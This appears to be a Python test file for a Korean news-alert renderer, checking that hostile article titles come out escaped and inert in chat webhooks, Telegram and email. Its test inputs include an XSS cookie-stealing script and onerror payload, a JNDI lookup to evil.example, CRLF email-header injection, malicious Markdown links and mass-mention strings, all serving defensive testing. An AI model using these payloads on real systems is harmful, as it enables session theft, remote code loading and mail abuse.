"""The titles that are worst for messages, on every kind of channel and in every chat service: told, whole, and harmless."""

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from bongsu.model import Look, Message
from bongsu.render import RENDERERS, render
from bongsu.render.clean import units
from bongsu.render.look import PRESETS
from bongsu.wording import say
from tests.sample_alerts import delivery_of

PLACES = [*((kind, "") for kind in RENDERERS), *(("webhook", preset) for preset in PRESETS)]
HIDDEN = re.compile("[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200c-\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
"""What nobody sees: controls and marks of direction. (U+200B breaks up a name that would call somebody.)"""

TITLES = {
    "ten thousand characters": "인공지능 공모 " * 1_250,
    "ten thousand characters without a space": "가" * 10_000,
    "ten thousand emoji": "🔥" * 10_000,
    "only emoji": "🔥🎉👩‍👩‍👧🇰🇷",
    "nothing to see": "\u200b\u2060\u3164 \u00ad",
    "right-to-left override": "\u202eIA 모공 \u2066시구대\u2069",
    "a script": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "an end of what is around it": "</a></b></h3></td>--></script>\"'}]},",
    "links in Markdown": "[누르세요](https://evil.example) <https://evil.example|여기> ![그림](https://evil.example/x.png)",
    "names that would call everybody": "@channel @everyone @here <!channel> <!here> <@U012AB3CD>",
    "headers of a letter": "공모\r\nBcc: everybody@evil.example\r\n\r\n<html>",
    "a template": "{{ 7 * 7 }} {% for x in y %} ${jndi:ldap://evil.example} %s %(x)s {0}",
    "colours of a terminal": "\x1b[31m공모\x1b]0;제목\x07",
    "half of a character": "공모 \ud83d",
}


class Seen(HTMLParser):
    """The tags and the addresses of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags, self.links = set[str](), set[str]()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links |= {value or "" for name, value in attrs if name in {"href", "src"}}


def told(kind: str, preset: str, title: str) -> Message:
    return render(delivery_of(title=title), kind, "ko", Look(preset=preset))


def texts(value: Any) -> list[str]:  # noqa: ANN401 -- JSON
    if isinstance(value, dict):
        return [text for inner in value.values() for text in texts(inner)]
    if isinstance(value, list):
        return [text for inner in value for text in texts(inner)]
    return [value] if isinstance(value, str) else []


def shown(message: Message, kind: str) -> list[str]:
    """Return every text of a message."""
    return [message.title, message.html, *(texts(json.loads(message.body)) if kind == "webhook" else [message.body])]


@pytest.mark.parametrize(("kind", "preset"), PLACES)
@pytest.mark.parametrize("title", TITLES.values(), ids=TITLES)
def test_it_is_told_and_does_nothing_else(kind: str, preset: str, title: str) -> None:
    message = told(kind, preset, title)
    said = "\n".join(shown(message, kind))
    assert "새 소식" in said
    assert "https://news.example/view?id=4" in said
    assert not HIDDEN.search(said)
    assert units(message.body) <= 8_000
    assert said.encode()
    if kind in {"telegram", "email"}:
        seen = Seen(message.html or message.body)
        assert seen.tags <= {"b", "a", "html", "body", "h3", "table", "tr", "th", "td", "p"}
        assert seen.links == {"https://news.example/view?id=4&page=1"}


@pytest.mark.parametrize(("kind", "preset"), PLACES)
def test_a_title_that_nobody_sees_is_called_so(kind: str, preset: str) -> None:
    said = "\n".join(shown(told(kind, preset, TITLES["nothing to see"]), kind))
    assert say("alert.untitled", "ko") in said or kind == "webhook"


@pytest.mark.parametrize(("kind", "preset"), PLACES)
def test_emoji_are_told_as_they_are(kind: str, preset: str) -> None:
    assert "🔥🎉" in "\n".join(shown(told(kind, preset, TITLES["only emoji"]), kind))


@pytest.mark.parametrize(
    ("preset", "as_it_stands"),
    [
        pytest.param("discord", "\\[누르세요\\](https", id="Discord: escaped"),
        pytest.param("teams", "\\[누르세요\\](https", id="Teams: escaped"),
        pytest.param(
            "mattermost", "[새 소식] [누르세요](https", id="Mattermost: a title that links to the article reads no Markdown"
        ),
        pytest.param("slack", "&lt;https://evil.example|여기&gt;", id="Slack: escaped"),
        pytest.param("jandi", "[누르세요] (https", id="JANDI: broken up"),
        pytest.param("dooray", "[누르세요] (https", id="Dooray: broken up"),
    ],
)
def test_a_title_links_nowhere_in_a_chat(preset: str, as_it_stands: str) -> None:
    body = json.loads(told("webhook", preset, TITLES["links in Markdown"]).body)
    assert as_it_stands in "\n".join(texts(body))
    if preset in {"discord", "teams", "jandi", "dooray"}:
        assert "[누르세요](https" not in "\n".join(texts(body))


def test_a_title_calls_nobody_in_a_chat() -> None:
    bodies = {name: json.loads(told("webhook", name, TITLES["names that would call everybody"]).body) for name in PRESETS}
    assert bodies["discord"]["allowed_mentions"] == {"parse": []}
    assert "<!" not in bodies["slack"]["text"]
    assert [block["text"]["type"] for block in bodies["slack"]["blocks"] if "<!" in block["text"]["text"]] == ["plain_text"]
    assert "@channel" not in bodies["mattermost"]["attachments"][0]["title"]
    assert "@channel" not in "\n".join(texts(bodies["teams"]))


def test_a_letter_gets_no_header_from_a_title() -> None:
    message = told("email", "", TITLES["headers of a letter"])
    assert message.title == "[새 소식] 공모 Bcc: everybody@evil.example <html>"
